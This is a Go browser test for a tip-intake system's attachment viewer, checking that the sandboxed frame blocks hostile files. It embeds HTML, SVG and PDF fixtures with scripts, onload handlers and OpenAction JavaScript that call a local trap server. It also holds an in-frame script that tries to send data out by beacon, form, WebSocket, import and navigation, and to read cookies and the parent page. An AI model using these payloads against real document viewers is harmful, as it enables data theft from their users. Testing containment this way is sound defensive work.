package main

import (
	"bytes"
	"crypto/rand"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"

	"heed/models"
	"heed/models/intake"
	"heed/models/scrub/sample"
)

// trap is a server that no file may reach, wherever it is looked at.
type trap struct {
	*httptest.Server
	hits atomic.Int64
}

func newTrap(t *testing.T) *trap {
	t.Helper()
	x := &trap{}
	x.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		x.hits.Add(1)
		w.Header().Set("Access-Control-Allow-Origin", "*")
	}))
	t.Cleanup(x.Close)
	return x
}

// exhibit is a file, and how it is shown.
type exhibit struct{ name, kind, content, as string }

func exhibits(remote string) []exhibit {
	page := "<!doctype html><img src='" + remote + "/a.png'><script src='" + remote + "/b.js'></script><link rel=stylesheet href='" + remote + "/c.css'>" +
		"<script>fetch('" + remote + "/d');parent.postMessage({heed:'key',key:'Escape'},'*')</script><iframe src='" + remote + "/e'></iframe>村里的账"
	drawing := "<svg xmlns='http://www.w3.org/2000/svg' onload=\"fetch('" + remote + "/f')\"><image href='" + remote + "/g.png'/><script>fetch('" + remote + "/h')</script></svg>"
	gbk := "\xb4\xe5\xc0\xef\xb5\xc4\xd5\xcb\xb2\xbb\xb6\xd4\n" // 村里的账不对
	return []exhibit{
		{"现场.jpg", "image/jpeg", string(sample.Photo(60 << 10)), "picture"},
		{"网页.html", "text/html", page, "markup"},
		{"图.svg", "image/svg+xml", drawing, "markup"},
		{"证明.pdf", "application/pdf", trickyPDF(remote), "pdf"},
		{"账.txt", "text/plain", gbk, "text"},
		{"转发.eml", "message/rfc822", "From: a@example.org\r\nTo: b@example.org\r\nSubject: road\r\n\r\nhello\r\n", "text"},
		{"录音.wav", "audio/wav", silence(), "audio"},
		{"表.docx", "application/octet-stream", "PK\x03\x04\x00\x00\x00\x00\x00\x00", "none"},
	}
}

// silence is a second of it.
func silence() string {
	return "RIFF\x64\x1f\x00\x00WAVEfmt \x10\x00\x00\x00\x01\x00\x01\x00\x40\x1f\x00\x00\x40\x1f\x00\x00\x01\x00\x08\x00data\x40\x1f\x00\x00" + strings.Repeat("\x80", 8000)
}

// trickyPDF says a line in Latin and one in Chinese, the fonts of which it does not bring, runs a script when it is
// opened, and asks for an address in every way that it knows.
func trickyPDF(remote string) string {
	script := "app.launchURL('" + remote + "/i');this.submitForm('" + remote + "/j');"
	text := "BT /F1 40 Tf 40 700 Td (Road money) Tj ET BT /F2 40 Tf 40 600 Td <B4E5C0EFB5C4D5CB> Tj ET"
	objects := []string{
		"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(" + script + ")>>/AA<</WC<</S/URI/URI(" + remote + "/k)>>>>>>",
		"<</Type/Pages/Kids[3 0 R]/Count 1>>",
		"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<</Font<</F1 5 0 R/F2 6 0 R>>>>/Annots[8 0 R]/AA<</O<</S/URI/URI(" + remote + "/l)>>>>>>",
		fmt.Sprintf("<</Length %d>>stream\n%s\nendstream", len(text), text),
		"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
		"<</Type/Font/Subtype/Type0/BaseFont/STSong-Light/Encoding/GBK-EUC-H/DescendantFonts[7 0 R]>>",
		"<</Type/Font/Subtype/CIDFontType0/BaseFont/STSong-Light/CIDSystemInfo<</Registry(Adobe)/Ordering(GB1)/Supplement 2>>>>",
		"<</Type/Annot/Subtype/Link/Rect[0 0 600 800]/A<</S/URI/URI(" + remote + "/m)>>>>",
	}
	var out bytes.Buffer
	out.WriteString("%PDF-1.7\n")
	var at []int
	for n, object := range objects {
		at = append(at, out.Len())
		fmt.Fprintf(&out, "%d 0 obj\n%s\nendobj\n", n+1, object)
	}
	start := out.Len()
	fmt.Fprintf(&out, "xref\n0 %d\n0000000000 65535 f \n", len(objects)+1)
	for _, offset := range at {
		fmt.Fprintf(&out, "%010d 00000 n \n", offset)
	}
	fmt.Fprintf(&out, "trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n", len(objects)+1, start)
	return out.String()
}

// attachedTip is a report with files, taken in as from a mail, which refuses none.
func (s *stage) attachedTip(t *testing.T, files []exhibit) models.Tip {
	t.Helper()
	draft := intake.Draft{
		Channel: models.ChannelMail, Text: "村里的账不对，材料附上。", Origin: "mailbox",
		Ledger: &models.Ledger{Account: "attached", Folder: rand.Text(), UIDValidity: 1, UID: 1, Outcome: models.LedgerTip, Digest: []byte(rand.Text())},
	}
	for _, f := range files {
		staged, err := s.Intake.StageMail(t.Context(), 0, f.name, f.kind, []byte(f.content))
		if err != nil {
			t.Fatal(err)
		}
		draft.Files = append(draft.Files, staged)
	}
	result, err := s.Intake.Submit(t.Context(), draft)
	if err != nil {
		t.Fatal(err)
	}
	return result.Tip
}

// lookAtAttachments opens each kind of file in the viewer, by keyboard, and then does in the viewer's frame what
// somebody would who had taken it over. Nothing ever reaches another server.
func (s *stage) lookAtAttachments(t *testing.T) {
	x := newTrap(t)
	files := exhibits(x.URL)
	tip := s.attachedTip(t, files)
	b := s.person(t, "clerk")
	b.open(fmt.Sprintf("/tips/%d", tip.ID)).ok()
	b.shows("v").presses("v").ok()
	for n, f := range files {
		b.await(`#look[data-state="` + f.as + `"]`)
		b.has(f.name)
		b.shoot("viewer-" + f.as + fmt.Sprint(n))
		s.barrierFree(b, "the page of "+f.name)
		if f.as != "none" {
			s.insideOf(b, f)
		}
		if n+1 < len(files) {
			b.presses(kb.ArrowRight).ok()
		}
	}
	b.presses(kb.ArrowLeft).ok().has(files[len(files)-2].name)
	b.await(`#look[data-state="audio"]`)
	b.presses(kb.Escape).ok().has(tip.Number)

	b.open(fmt.Sprintf("/tips/%d/files/1/view", tip.ID)).ok()
	b.await(`#look[data-state="markup"]`)
	s.takenOver(b, x)
	b.complaints() // the browser tells of everything that it refused
	if n := x.hits.Load(); n != 0 {
		t.Errorf("%d requests left the viewer", n)
	}
	r, err := http.NewRequestWithContext(t.Context(), http.MethodGet, x.URL, nil)
	b.must(err)
	answer, err := x.Client().Do(r)
	b.must(err)
	b.must(answer.Body.Close())
	if x.hits.Load() != 1 {
		t.Error("the trap does not notice who comes")
	}
	s.withoutViewer(t, tip)
}

// frame attaches to the viewer's frame, wherever the browser runs it.
func (s *stage) frame(b *tab) *tab {
	b.Helper()
	all, err := chromedp.Targets(b.ctx)
	b.must(err)
	for _, one := range all {
		if one.Type == "iframe" && strings.HasPrefix(one.URL, s.ViewerURL) {
			ctx, stop := chromedp.NewContext(b.ctx, chromedp.WithTargetID(one.TargetID))
			b.Cleanup(stop)
			b.must(chromedp.Do(ctx)) // attaches for as long as the test
			return &tab{T: b.T, ctx: ctx}
		}
	}
	b.Fatal("the viewer's frame has no process of its own")
	return nil
}

// insideOf looks at what the frame shows.
func (s *stage) insideOf(b *tab, f exhibit) {
	b.Helper()
	in := s.frame(b)
	switch f.as {
	case "picture", "pdf":
		ink := ask[int](in, `(c => { const d = c.getContext("2d").getImageData(0, 0, c.width, c.height).data; let n = 0;
			for (let i = 0; i < d.length; i += 4) if (d[i] + d[i+1] + d[i+2] < 600 && d[i+3] > 0) n++; return n; })(document.querySelector("canvas"))`)
		if ink < 500 {
			b.Errorf("%s: %d dark pixels", f.name, ink)
		}
		if f.as == "pdf" {
			if said := ask[string](in, `document.querySelector("canvas").textContent`); !strings.Contains(said, "1 / 1 Road money") || !strings.Contains(said, "村里的账") {
				b.Errorf("%s is read aloud as %q", f.name, said)
			}
			break
		}
		before := ask[int](in, `document.querySelector("canvas").offsetWidth`)
		if after := ask[int](in, `(document.getElementById("larger").click(), document.querySelector("canvas").offsetWidth)`); after <= before {
			b.Errorf("%s: %d pixels wide, and after zooming in %d", f.name, before, after)
		}
	case "markup", "text":
		if want := map[string]string{"账.txt": "村里的账不对\n"}[f.name]; want != "" && ask[string](in, `document.querySelector("pre").textContent`) != want {
			b.Errorf("%s is not read as it was written", f.name)
		}
		if n := ask[int](in, `document.querySelectorAll("svg, img, iframe, link[href^=http], body script").length`); n != 0 {
			b.Errorf("%s: %d elements of the file are in the page", f.name, n)
		}
	}
	if words := ask[string](in, `[...document.querySelectorAll("button")].map(e => e.getAttribute("aria-label")).join()`); words == "" || strings.Contains(words, "undefined") {
		b.Errorf("%s: the tools are called %q", f.name, words)
	}
}

// takenOver tries what a script of the file's could, did it run in the frame.
func (s *stage) takenOver(b *tab, x *trap) {
	b.Helper()
	in := s.frame(b)
	for what, script := range map[string]string{
		"its own cookies":         `try { void document.cookie; false } catch { true }`,
		"the staff site's page":   `try { void parent.document; false } catch { true }`,
		"the staff site's cookie": `try { void parent.document.cookie; false } catch { true }`,
		"storage":                 `try { void localStorage; false } catch { true }`,
		"an origin":               `origin === "null"`,
	} {
		if !ask[bool](in, script) {
			b.Errorf("the frame has %s", what)
		}
	}
	ask[bool](in, `((async () => { const to = `+quote(x.URL)+`;
		new Image().src = to + "/n"; navigator.sendBeacon(to + "/o");
		for (const tag of ["script", "link", "iframe", "object", "video"]) {
			const e = document.createElement(tag); e.rel = "stylesheet"; e.src = e.href = e.data = to + "/p-" + tag; document.body.append(e); }
		const form = document.createElement("form"); form.action = to + "/q"; document.body.append(form); form.submit();
		open(to + "/r"); try { top.location = to + "/s"; } catch {}
		try { new WebSocket(to.replace("http", "ws")); } catch {}
		await fetch(to + "/t").catch(() => {}); await import(to + "/u").catch(() => {});
		await fetch(`+quote(s.StaffURL+"/")+`, {credentials: "include"}).catch(() => {});
		document.body.insertAdjacentHTML("beforeend", "<p id=tried>"); })(), true)`)
	in.await("#tried")
	if address := ask[string](b, `location.pathname`); !strings.HasSuffix(address, "/files/1/view") {
		b.Errorf("the frame led the page to %s", address)
	}
	ask[bool](b, `(document.getElementById("look").addEventListener("load", e => e.target.dataset.led = ""), true)`)
	ask[bool](in, `(setTimeout(() => { location = `+quote(x.URL+"/v")+`; }), true)`)
	b.await("#look[data-led]")
}

// withoutViewer expects the download in words where no script runs.
func (s *stage) withoutViewer(t *testing.T, tip models.Tip) {
	t.Helper()
	b := s.person(t, "clerk")
	b.still()
	b.open(fmt.Sprintf("/tips/%d/files/0/view", tip.ID)).ok().has(s.says("backoffice.view.none"), s.says("backoffice.view.download"))
	if b.there("#look:not([hidden])") || !b.there(`a[download][href$="/files/0"]`) {
		t.Error("without scripts there is an empty frame, or no download")
	}
}
